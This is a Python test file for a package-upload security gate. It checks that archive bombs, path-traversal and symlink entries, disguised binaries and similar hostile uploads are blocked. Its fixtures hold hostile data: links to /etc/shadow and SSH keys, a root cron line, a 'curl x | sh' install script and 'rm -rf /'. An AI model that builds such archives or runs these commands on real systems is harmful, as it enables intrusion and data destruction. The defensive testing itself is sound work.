"""Hostile uploads through the public API: each ends blocked with its rule, with bounded memory, writing nothing.

Archives are generated in code (hostile_archives.py). Memory is measured with tracemalloc (peak of Python
allocations during the check); no timing assertions.
"""

from __future__ import annotations

import io
import json
import shutil
import tarfile
import tracemalloc
from collections.abc import Callable
from pathlib import Path

import pytest

from extgate import Options, Status, Verdict, check
from hostile.hostile_archives import (
    Member,
    gzip_bomb,
    npm_tarball,
    overlapping_zip,
    tar_bytes,
    zip_bomb,
    zip_bytes,
    zip_symlink,
)

OFFLINE = Options(offline=True, network=False, use_cache=False)
MY_GATES = ("archive/", "safety/")
SWAMP_FIXTURE = Path(__file__).parent.parent / "fixtures" / "intake" / "swamp-ext"


def run(source: object, *, cwd: Path, monkeypatch: pytest.MonkeyPatch) -> Verdict:
    """check() from an empty working directory, asserting nothing was written there."""
    monkeypatch.chdir(cwd)
    before = sorted(cwd.rglob("*"))
    verdict = check(source, options=OFFLINE)  # type: ignore[arg-type]
    assert sorted(cwd.rglob("*")) == before, "the check wrote files"
    return verdict


def rules(verdict: Verdict) -> set[str]:
    return {f.rule_id for f in verdict.findings}


def mine(verdict: Verdict) -> list[str]:
    return sorted(f.rule_id for f in verdict.findings if f.rule_id.startswith(MY_GATES))


@pytest.fixture(scope="module")
def gz_bomb() -> bytes:
    return gzip_bomb(200_000_000)


def test_gzip_bomb_is_blocked_with_bounded_memory(
    gz_bomb: bytes, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert len(gz_bomb) < 1_000_000  # ~200 MB of zeros
    tracemalloc.start()
    try:
        verdict = run(gz_bomb, cwd=tmp_path, monkeypatch=monkeypatch)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert verdict.status is Status.BLOCKED
    assert {"archive/too-large", "archive/compression-ratio", "archive/file-too-large"} <= rules(verdict)
    assert peak < 64_000_000  # far below the 200 MB the bomb expands to (reading stops at the caps)


def test_zip_bomb_is_blocked_with_bounded_memory(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    data = zip_bomb(200_000_000)
    tracemalloc.start()
    try:
        verdict = run(data, cwd=tmp_path, monkeypatch=monkeypatch)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert verdict.blocked
    assert {"archive/too-large", "archive/compression-ratio"} <= rules(verdict)
    assert peak < 64_000_000


def test_overlapping_zip_entries_are_blocked(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    verdict = run(overlapping_zip(copies=200, size=2_000_000), cwd=tmp_path, monkeypatch=monkeypatch)
    assert verdict.blocked
    assert {"archive/compression-ratio", "archive/duplicate-entry"} <= rules(verdict)


def half(data: bytes) -> bytes:
    return data[: len(data) // 2]


HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "traversal": (
        lambda: tar_bytes([("package/index.js", "x"), ("package/../../../.bashrc", "evil")]),
        "archive/path-traversal",
    ),
    "zip-slip": (lambda: zip_bytes([("index.js", "x"), ("../../evil.js", "y")]), "archive/path-traversal"),
    "absolute": (
        lambda: tar_bytes([("package/index.js", "x"), ("/etc/cron.d/job", "* * * * * root sh")]),
        "archive/absolute-path",
    ),
    "symlink": (
        lambda: tar_bytes(
            [("package/index.js", "x"), Member("package/key", type=tarfile.SYMTYPE, linkname="/root/.ssh/id_rsa")]
        ),
        "archive/link",
    ),
    "zip-symlink": (
        lambda: zip_bytes([("a.js", "x"), (zip_symlink("b.js", "/etc/passwd"), "/etc/passwd")]),
        "archive/link",
    ),
    "hardlink": (
        lambda: tar_bytes(
            [("package/index.js", "x"), Member("package/h", type=tarfile.LNKTYPE, linkname="/etc/shadow")]
        ),
        "archive/link",
    ),
    "device": (
        lambda: tar_bytes([("package/index.js", "x"), Member("package/sda", type=tarfile.BLKTYPE)]),
        "archive/special-file",
    ),
    "fifo": (
        lambda: tar_bytes([("package/index.js", "x"), Member("package/p", type=tarfile.FIFOTYPE)]),
        "archive/special-file",
    ),
    "duplicate": (
        lambda: tar_bytes([("package/index.js", "clean"), ("package/index.js", "evil")]),
        "archive/duplicate-entry",
    ),
    "case-collision": (
        lambda: tar_bytes([("package/Index.js", "a"), ("package/index.js", "b")]),
        "archive/case-collision",
    ),
    "bidi-name": (
        lambda: tar_bytes([("package/index.js", "x"), ("package/readme\u202egpj.js", "y")]),
        "archive/unsafe-name",
    ),
    "zero-width-name": (
        lambda: tar_bytes([("package/index.js", "x"), ("package/ind\u200bex.js", "y")]),
        "archive/unsafe-name",
    ),
    "ten-thousand-files": (
        lambda: tar_bytes([(f"package/f{i}.js", "x") for i in range(10_000)]),
        "archive/too-many-files",
    ),
    "truncated-gzip": (
        lambda: half(npm_tarball({"package.json": "{}", "a.js": bytes(range(256)) * 80})),
        "archive/corrupt",
    ),
    "garbage": (lambda: bytes(range(256)) * 40, "archive/corrupt"),
    "empty-upload": (lambda: b"", "archive/corrupt"),
    "empty-archive": (lambda: tar_bytes([]), "archive/corrupt"),
    "hidden-file": (lambda: npm_tarball({"package.json": "{}", ".npmrc": "//r/:_authToken=x"}), "safety/hidden-file"),
    "disguised-elf": (
        lambda: npm_tarball({"package.json": "{}", "logo.png": b"\x7fELF\x02\x01\x01" + bytes(100)}),
        "safety/binary-content",
    ),
    "shell-script": (
        lambda: npm_tarball({"package.json": "{}", "install.sh": "curl x | sh"}),
        "safety/disallowed-file-type",
    ),
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_upload_is_blocked_with_its_rule(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    build, rule = HOSTILE[name]
    verdict = run(build(), cwd=tmp_path, monkeypatch=monkeypatch)
    assert verdict.status is Status.BLOCKED
    assert rule in rules(verdict), [f.rule_id for f in verdict.findings]
    finding = next(f for f in verdict.findings if f.rule_id == rule)
    assert finding.message and finding.fingerprint


def test_hostile_stream_and_path_inputs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    data = tar_bytes([("package/index.js", "x"), ("package/../../x", "y")])
    upload = tmp_path / "up" / "pkg.tgz"
    upload.parent.mkdir()
    upload.write_bytes(data)
    work = tmp_path / "work"
    work.mkdir()
    for source in (io.BytesIO(data), upload, str(upload)):
        assert "archive/path-traversal" in rules(run(source, cwd=work, monkeypatch=monkeypatch))


# -- clean inputs: no archive/safety findings (other gates judge their own concerns) ---------------------------


def clean_package_json() -> str:
    return json.dumps({"name": "clean-ext", "version": "1.0.0", "license": "MIT", "main": "lib/index.js"})


@pytest.mark.parametrize("prefix", ["package/", "node/"])
def test_clean_npm_tarballs_pass_my_gates(prefix: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    data = npm_tarball(
        {
            "package.json": clean_package_json(),
            "README.md": "# clean\n",
            "LICENSE": "MIT\n",
            "lib/index.js": "module.exports = 1;\n",
        },
        prefix=prefix,
    )
    verdict = run(data, cwd=tmp_path, monkeypatch=monkeypatch)
    assert mine(verdict) == []
    assert verdict.target.publish_set == ("package.json", "README.md", "LICENSE", "lib/index.js")
    assert verdict.target.sha256 and verdict.target.integrity.startswith("sha512-")


def test_clean_zip_and_vsix_pass_my_gates(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    plain = zip_bytes([("package.json", clean_package_json()), ("lib/index.js", "module.exports = 1;\n")])
    assert mine(run(plain, cwd=tmp_path, monkeypatch=monkeypatch)) == []
    vsix = zip_bytes(
        [
            ("extension.vsixmanifest", "<PackageManifest/>"),
            ("[Content_Types].xml", "<Types/>"),
            ("extension/package.json", clean_package_json()),
            ("extension/lib/index.js", "module.exports = 1;\n"),
        ]
    )
    assert mine(run(vsix, cwd=tmp_path, monkeypatch=monkeypatch)) == []


def test_clean_npm_directory_scans_what_npm_would_publish(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root = tmp_path / "pkg"
    (root / "lib").mkdir(parents=True)
    (root / "package.json").write_text(clean_package_json())
    (root / "lib" / "index.js").write_text("module.exports = 1;\n")
    (root / ".npmignore").write_text("scratch/\n")
    (root / "scratch").mkdir()
    (root / "scratch" / "tool.sh").write_text("rm -rf /\n")  # never published: must not be reported
    (root / ".env").write_text("TOKEN=1\n")  # .env is published by npm here (no files/.npmignore rule): reported
    work = tmp_path / "work"
    work.mkdir()
    verdict = run(root, cwd=work, monkeypatch=monkeypatch)
    assert "scratch/tool.sh" not in verdict.target.publish_set
    assert mine(verdict) == ["safety/hidden-file"]
    (root / ".npmignore").write_text("scratch/\n.env\n")
    assert mine(run(root, cwd=work, monkeypatch=monkeypatch)) == []


def test_swamp_directory_uses_the_manifest(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root = Path(shutil.copytree(SWAMP_FIXTURE, tmp_path / "ext"))
    work = tmp_path / "work"
    work.mkdir()
    verdict = run(root, cwd=work, monkeypatch=monkeypatch)
    assert verdict.profile == "swamp"
    assert "notes.txt" not in verdict.target.publish_set
    assert "extensions/models/deploy.ts" in verdict.target.publish_set
    # the declared binary is the only thing these gates raise, as a warning to acknowledge
    findings = [f for f in verdict.findings if f.rule_id.startswith(MY_GATES)]
    assert [(f.rule_id, f.path, f.level.value) for f in findings] == [
        ("safety/binary-content", "bin/helper", "warning")
    ]


def test_a_directory_walk_stopped_by_its_entry_limit_still_reads_the_manifest(tmp_path: Path) -> None:
    root = tmp_path / "pkg"
    (root / "lib").mkdir(parents=True)
    (root / "package.json").write_text(clean_package_json())
    for i in range(120_000):  # more entries than a walk looks at (20 x max_files + 10,000)
        (root / "lib" / f"f{i}.js").touch()
    verdict = check(root, options=OFFLINE)
    found = {f.rule_id for f in verdict.findings}
    assert verdict.blocked and "archive/too-many-files" in found
    assert "manifest/missing" not in found and verdict.manifest.get("name") == "clean-ext"
